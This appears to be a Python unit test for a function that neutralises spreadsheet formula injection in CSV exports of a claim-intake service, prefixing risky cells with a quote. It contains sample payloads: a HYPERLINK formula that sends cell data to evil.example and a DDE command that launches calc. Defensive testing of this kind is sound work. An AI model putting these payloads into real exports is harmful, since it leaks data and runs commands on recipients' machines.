"""CSV cells that a spreadsheet would run as formulas are prefixed with a single quote (OWASP)."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from services.claim_intake.csv_cells import ACTIVE, cell


def test_each_active_first_character_is_neutralised() -> None:
    assert (
        cell('=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")')
        == '\'=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
    )
    assert cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert cell("-2+3") == "'-2+3"
    assert cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert cell("\t=1+1") == "'\t=1+1"
    assert cell("\r=1+1") == "'\r=1+1"


def test_ordinary_values_are_left_as_they_are() -> None:
    assert [cell(v) for v in ("EL ALAMI", "Fatima-Zahra", "2026-03-01", 1152.90, None, "", "'déjà")] == [
        "EL ALAMI", "Fatima-Zahra", "2026-03-01", "1152.9", "", "", "'déjà"
    ]  # fmt: skip


@given(st.text())
def test_no_cell_starts_like_a_formula_and_the_value_is_kept_after_the_quote(value: str) -> None:
    shown = cell(value)
    assert not shown.startswith(ACTIVE)
    assert shown == value or (shown == f"'{value}" and value.startswith(ACTIVE))
